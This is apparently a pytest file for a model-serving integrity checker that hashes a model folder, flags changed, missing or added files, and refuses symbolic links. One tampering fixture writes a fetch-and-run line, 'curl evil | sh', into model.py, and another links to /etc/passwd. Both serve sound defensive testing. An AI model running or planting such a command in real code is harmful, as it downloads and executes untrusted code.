import os

import pytest

from pipeline.serving.manifest import UntrustedModelError, check_tree, hash_tree, manifest_text, parse_manifest


def make_model_folder(root):
    (root / "artifacts").mkdir(parents=True)
    (root / "MLmodel").write_text("flavors: {}\n")
    (root / "model.py").write_text("print('model code')\n")
    (root / "artifacts" / "settings.json").write_text('{"lm": "local/smollm2"}')
    return root


def test_an_unchanged_folder_matches_its_manifest(tmp_path):
    folder = make_model_folder(tmp_path / "model")
    manifest = hash_tree(folder)

    assert set(manifest) == {"MLmodel", "model.py", "artifacts/settings.json"}
    check_tree(folder, manifest)


def test_every_changed_missing_and_added_file_is_named(tmp_path):
    folder = make_model_folder(tmp_path / "model")
    manifest = hash_tree(folder)
    (folder / "model.py").write_text("import os; os.system('curl evil | sh')\n")
    (folder / "artifacts" / "settings.json").unlink()
    (folder / "artifacts" / "python_model.pkl").write_bytes(b"\x80\x04.")

    with pytest.raises(UntrustedModelError) as caught:
        check_tree(folder, manifest, model="models:/tessera-rag/3")

    message = str(caught.value)
    assert "models:/tessera-rag/3" in message
    assert "changed: model.py" in message
    assert "missing: artifacts/settings.json" in message
    assert "added: artifacts/python_model.pkl" in message


def test_a_file_changed_by_one_byte_is_caught(tmp_path):
    folder = make_model_folder(tmp_path / "model")
    manifest = hash_tree(folder)
    (folder / "artifacts" / "settings.json").write_text('{"lm": "local/smollm3"}')

    with pytest.raises(UntrustedModelError, match="changed: artifacts/settings.json"):
        check_tree(folder, manifest)


def test_a_symbolic_link_in_the_model_is_refused(tmp_path):
    folder = make_model_folder(tmp_path / "model")
    os.symlink("/etc/passwd", folder / "artifacts" / "passwd")

    with pytest.raises(UntrustedModelError, match="artifacts/passwd.*symbolic link"):
        hash_tree(folder)


def test_the_file_mlflow_writes_on_download_is_not_part_of_the_model(tmp_path):
    folder = make_model_folder(tmp_path / "model")
    manifest = hash_tree(folder)
    (folder / "registered_model_meta").write_text("model_name: tessera-rag\nmodel_version: '1'\n")

    check_tree(folder, manifest)


def test_the_stored_manifest_reads_back_the_same(tmp_path):
    manifest = hash_tree(make_model_folder(tmp_path / "model"))

    assert parse_manifest(manifest_text(manifest)) == manifest
    assert manifest_text(dict(reversed(list(manifest.items())))) == manifest_text(manifest)
    with pytest.raises(UntrustedModelError, match="not valid JSON"):
        parse_manifest("{model.py: 1")
    with pytest.raises(UntrustedModelError, match="file: sha256"):
        parse_manifest('["model.py"]')
